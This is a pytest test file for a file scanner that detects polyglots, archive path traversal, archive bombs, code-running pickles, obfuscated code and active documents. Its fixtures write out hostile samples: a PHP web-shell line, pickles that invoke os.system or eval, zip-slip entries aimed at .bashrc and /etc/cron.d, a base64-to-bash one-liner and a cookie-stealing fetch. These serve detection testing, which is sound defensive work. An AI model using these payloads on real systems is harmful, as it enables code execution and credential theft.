"""What nobody can read is named for what it is; archives and pickles are looked into within bounds, never loaded."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import random
import stat
import struct
import subprocess
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from countermark_scanners import binaries
from countermark_scanners.binaries import pickles
from countermark_scanners.errors import Unreadable
from countermark_scanners.finding import Hit
from countermark_scanners.question import Question
from countermark_scanners.tool import ToolLimits

ELF = b"\x7fELF\x02\x01\x01" + bytes(60)
TEXT = b"A readable text about orders.\n" * 3


def look(content: bytes, path: str = "file", language: str = "binary") -> list[Hit]:
    return binaries.look(Question(language, content, path=path))


def found(content: bytes, path: str = "file", language: str = "binary") -> set[str]:
    return {hit.rule.removeprefix("countermark/") for hit in look(content, path, language)}


def zipped(*entries: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return raw.getvalue()


def tarred(*members: tuple[str, bytes, str]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as archive:
        for name, content, link in members:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            if link:
                info.type, info.linkname, info.size = tarfile.SYMTYPE, link, 0
            archive.addfile(info, io.BytesIO(content))
    return raw.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG = (
    b"\x89PNG\r\n\x1a\n"
    + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
    + chunk(b"IEND", b"")
)
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
JPEG = b"\xff\xd8\xff\xe0" + bytes(40) + b"\xff\xd9"
PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\x00\x00" + bytes(20)

KINDS = {
    "elf": (ELF, "executable"),
    "pe": (PE, "executable"),
    "mach-o": (b"\xcf\xfa\xed\xfe" + bytes(40), "executable"),
    "fat-mach-o": (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(40), "executable"),
    "wasm": (b"\x00asm\x01\x00\x00\x00", "executable"),
    "java": (b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(40), "bytecode"),
    "pyc": (struct.pack("<H", 3495) + b"\r\n" + bytes(30), "bytecode"),
    "dex": (b"dex\n035\x00" + bytes(30), "bytecode"),
    "zip": (zipped(("a.txt", TEXT)), "archive"),
    "gzip": (gzip.compress(TEXT), "archive"),
    "bzip2": (bz2.compress(TEXT), "archive"),
    "xz": (lzma.compress(TEXT), "archive"),
    "tar": (tarred(("a.txt", TEXT, "")), "archive"),
    "7z": (b"7z\xbc\xaf\x27\x1c" + bytes(40), "archive"),
    "pickle": (pickle.dumps([1]), "serialised-objects"),
    "old-pickle": (b"cdecimal\nDecimal\n(S'1'\ntR.", "serialised-objects"),
    "hdf5": (b"\x89HDF\r\n\x1a\n" + bytes(40), "serialised-objects"),
    "object-array": (b"\x93NUMPY\x01\x00v\x00{'descr': '|O', }\n" + pickle.dumps([1]), "serialised-objects"),
    "noise": (b"\x07\x00\xfa" + random.Random(1).randbytes(64), "opaque-data"),  # noqa: S311  # repeatable
}


@pytest.mark.parametrize("name", sorted(KINDS))
def test_what_nobody_can_read_is_named(name: str) -> None:
    content, rule = KINDS[name]
    assert rule in found(content)


@pytest.mark.parametrize(
    ("content", "path"),
    [
        (PNG, "a.png"),
        (GIF, "a.gif"),
        (JPEG, "a.jpg"),
        (b"", "a.bin"),
        (b"x = 1\n", "a.py"),
        (b"%PDF-1.7\n<< /Type /Catalog >>\n%%EOF\n", "a.pdf"),
        (b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', }\n" + bytes(80), "a.npy"),
    ],
)
def test_what_is_what_it_says_is_no_finding(content: bytes, path: str) -> None:
    assert found(content, path, "python" if path == "a.py" else "binary") == set()


TWO_TYPES = {
    "picture-and-zip": PNG + zipped(("__main__.py", b"print(1)")),
    "picture-and-more": PNG + b"something else",
    "picture-and-php": JPEG[:-2] + b"<?php system($_GET[0]); ?>" + JPEG[-2:],
    "picture-and-page": GIF[:-1] + b"<script>alert(1)</script>" + GIF[-1:],
    "picture-and-javascript": b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)\x00;",
    "picture-and-shell": b"GIF89a;\n#!/bin/sh\nid\n\x00;",
    "picture-and-elf": JPEG[:-2] + b"\x7fELF\x02\x01\x01" + JPEG[-2:],
    "pdf-and-zip": b"%PDF-1.7\n" + zipped(("a.py", b"1")),
    "script-and-zip": b"#!/bin/sh\nexit 0\n" + zipped(("__main__.py", b"print(1)")),
    "program-and-zip": ELF + zipped(("__main__.py", b"print(1)")),
}


@pytest.mark.parametrize("name", sorted(TWO_TYPES))
def test_a_file_of_two_types_is_found(name: str) -> None:
    assert "polyglot" in found(TWO_TYPES[name])


@pytest.mark.parametrize(
    ("content", "path"),
    [(ELF, "logo.png"), (zipped(("a", TEXT)), "notes.txt"), (b"plain text", "font.woff2"), (PE, "data.json")],
)
def test_a_name_that_says_another_type_is_found(content: bytes, path: str) -> None:
    assert "misnamed" in found(content, path)


def link(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


OUTSIDE = {
    "up": zipped(("../../.bashrc", TEXT)),
    "up-in-the-middle": zipped(("a/../../b", TEXT)),
    "absolute": zipped(("/etc/cron.d/x", TEXT)),
    "drive": zipped(("C:\\x", TEXT)),
    "backslashes": zipped(("..\\x", TEXT)),
    "link": zipped((link("a"), b"/etc/passwd")),
    "tar-up": tarred(("../x", TEXT, "")),
    "tar-link": tarred(("a", b"", "/etc/passwd")),
    "packed-tar": gzip.compress(tarred(("../x", TEXT, ""))),
}


@pytest.mark.parametrize("name", sorted(OUTSIDE))
def test_an_entry_that_leaves_its_folder_is_found(name: str) -> None:
    assert "unsafe-archive-member" in found(OUTSIDE[name])


def nested(depth: int) -> bytes:
    raw = TEXT
    for _ in range(depth):
        raw = zipped(("inner.zip", raw))
    return raw


BOMBS: dict[str, Callable[[], bytes]] = {
    "gzip": lambda: gzip.compress(bytes(40_000_000)),
    "bzip2": lambda: bz2.compress(bytes(40_000_000)),
    "xz": lambda: lzma.compress(bytes(40_000_000)),
    "zip": lambda: zipped(("a", bytes(40_000_000))),
    "bomb-in-a-zip": lambda: zipped(("a.gz", gzip.compress(bytes(3_000_000)))),
    "nested": lambda: nested(6),
}


@pytest.mark.parametrize("name", sorted(BOMBS))
def test_an_archive_that_explodes_is_found_without_exploding(name: str) -> None:
    assert "archive-bomb" in found(BOMBS[name]())


DAMAGED = {
    "cut": zipped(("a.txt", TEXT))[:-10] + b"PK\x05\x06" + bytes(10),
    "no-gzip": b"\x1f\x8b" + bytes(20),
    "no-xz": b"\xfd7zXZ\x00" + bytes(20),
    "many-streams": gzip.compress(b"") * 2_000,
    "many-entries": zipped(("a", b"")) + b"PK\x01\x02" * 30_000,
}


@pytest.mark.parametrize("name", sorted(DAMAGED))
def test_an_archive_that_cannot_be_listed_is_unscanned(name: str) -> None:
    with pytest.raises(Unreadable):
        look(DAMAGED[name])


@pytest.mark.parametrize("inner", [ELF, PE, b"\x00asm\x01\x00\x00\x00"])
def test_a_program_is_found_at_any_depth_of_archives(inner: bytes) -> None:
    assert "program-in-archive" in found(zipped(("lib/helper", inner)))
    assert "program-in-archive" in found(gzip.compress(tarred(("lib/helper", inner, ""))))
    assert "program-in-archive" in found(zipped(("a.zip", zipped(("b", inner)))))


def test_what_is_appended_to_a_compressed_stream_is_looked_at() -> None:
    assert "unsafe-archive-member" in found(gzip.compress(b"") + gzip.compress(tarred(("../x", TEXT, ""))))


class Calling:
    def __init__(self, function: object, *arguments: object) -> None:
        self.called = (function, arguments)

    def __reduce__(self) -> tuple:
        return self.called


RUNNING = {
    **{f"protocol-{one}": pickle.dumps(Calling(subprocess.getoutput, "id"), one) for one in range(6)},
    "eval": pickle.dumps(Calling(eval, "1")),
    "inst": b"(S'id'\nios\nsystem\n.",
    "memo": b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x940h\x00h\x01\x93\x8c\x02id\x85R.",
    "computed": b"\x80\x04\x8c\x01ahx\x93.",
    "after-the-end": pickle.dumps([1]) + pickle.dumps(Calling(eval, "1")),
    "broken-off": b"cos\nsystem\n(S'id'\ntR\xff\xff\xff",
    "extension": b"\x80\x02\x82\x01.",
    "another-module": b"ctorch.hub\nload\n(S'x'\ntR.",
    "torch": zipped(("model/data.pkl", b"cos\nsystem\n(S'id'\ntR.")),
    "packed": gzip.compress(pickle.dumps(Calling(eval, "1"))),
}


@pytest.mark.parametrize("name", sorted(RUNNING))
def test_a_pickle_that_runs_something_is_found_and_not_run(name: str) -> None:
    assert "serialised-program" in found(RUNNING[name], "model.pkl")


def test_a_pickle_of_plain_data_is_only_a_pickle() -> None:
    plain = pickle.dumps({"a": [1, 2.5, "x", b"y", {3}, complex(1, 2), Path("p").parts]})
    assert found(plain) == {"serialised-objects"}
    assert pickles.names(plain) <= {"builtins.complex", "builtins.set"}


def test_a_pickle_of_too_many_operations_is_unscanned() -> None:
    with pytest.raises(Unreadable, match="operations"):
        look(b"\x80\x02" + b"N0" * 600_000 + b"N.")


HIDDEN = {
    "python-exec": ("python", 'exec(base64.b64decode("cHJpbnQoMSk="))'),
    "python-eval": ("python", 'eval(bytes.fromhex("31").decode())'),
    "python-marshal": ("python", "exec(marshal.loads(zlib.decompress(data)))"),
    "python-rot": ("python", 'exec(codecs.decode("cevag(1)", "rot13"))'),
    "javascript": ("javascript", 'eval(atob("YWxlcnQoMSk="))'),
    "javascript-codes": ("javascript", "new Function(String.fromCharCode(97, 108))()"),
    "javascript-buffer": ("javascript", 'eval(Buffer.from("YQ==", "base64").toString())'),
    "php": ("php", '<?php eval(gzinflate(base64_decode("x")));'),
    "shell": ("shell", "echo aWQK | base64 -d | bash"),
    "shell-python": ("shell", "base64 --decode x | python3"),
    "powershell": ("unknown-text", "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
    "renamed": ("javascript", "".join(f"var _0x{n:04x}=_0x{n + 1:04x};" for n in range(20))),
    "six-characters": ("javascript", "[][(![]+[])[+[]]]" * 20 + "+!+[]" * 60),
}


@pytest.mark.parametrize("name", sorted(HIDDEN))
def test_code_that_is_decoded_before_it_runs_is_found(name: str) -> None:
    language, text = HIDDEN[name]
    (hit,) = [hit for hit in look(f"\n{text}\n".encode(), "a", language) if hit.rule.endswith("obfuscated-code")]
    assert hit.line == 2


@pytest.mark.parametrize(
    "text",
    [
        "data = base64.b64decode(body)",
        "executor.submit(base64.b64decode, body)",
        "self.assertEqual(marshal.loads(a), b)",
        "cursor.exec(query)",
        "base64 -d key > key.bin",
        "x = '\\x89PNG\\x00\\x01\\x02'",
        "table = [[], (), [1]]",
    ],
)
def test_ordinary_code_is_no_finding(text: str) -> None:
    assert found(text.encode(), "a.py", "python") == set()


def test_text_in_escapes_is_found_and_bytes_in_escapes_are_not() -> None:
    text = "".join(f"\\x{ord(one):02x}" for one in "fetch('https://acme.dev/?c=' + document.cookie)")
    raw = "".join(f"\\x{byte:02x}" for byte in random.Random(1).randbytes(60))  # noqa: S311  # repeatable
    assert found(f'a = "{text}"'.encode(), "a.js", "javascript") == {"escaped-text"}
    assert found(f'a = "{raw}"'.encode(), "a.js", "javascript") == set()


def test_an_endless_line_of_code_is_found_and_one_of_data_is_not() -> None:
    line = b"f(1);" * 2_000
    assert found(line, "a.js", "javascript") == {"unreadable-code"}
    assert found(line, "a.json", "json") == set()


@pytest.mark.parametrize(
    "content", [b"<svg><script>x</script></svg>", b'<svg onload="x()"/>', b'<svg><a href="javascript:x()"/></svg>']
)
def test_a_picture_of_text_that_runs_a_script_is_found(content: bytes) -> None:
    assert "active-document" in found(content, "a.svg", "svg")


def test_macros_are_found_in_documents_of_both_ages() -> None:
    assert "active-document" in found(zipped(("word/vbaProject.bin", b"x")))
    assert "active-document" in found(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(20) + b"_VBA_PROJECT")


@pytest.mark.parametrize(
    "unit", ["eval(", "[", "\\x41", "_0x1234 ", "base64 ", "powershell ", "getattr(a,", "<svg ", "exec"]
)
def test_a_hostile_line_is_read_to_its_end(unit: str) -> None:
    text = unit * 20_000 + "\nexec(marshal.loads(x))\n"
    assert "obfuscated-code" in found(text.encode(), "a.py", "python")


def test_the_scanner_answers_through_its_process_and_sees_its_canary() -> None:
    answers = binaries.SCANNER.run({"a": Question("binary", ELF, path="a")}, ToolLimits())
    assert [hit.rule for hit in answers["a"]] == ["countermark/executable"]  # type: ignore[union-attr]  # no Unscanned
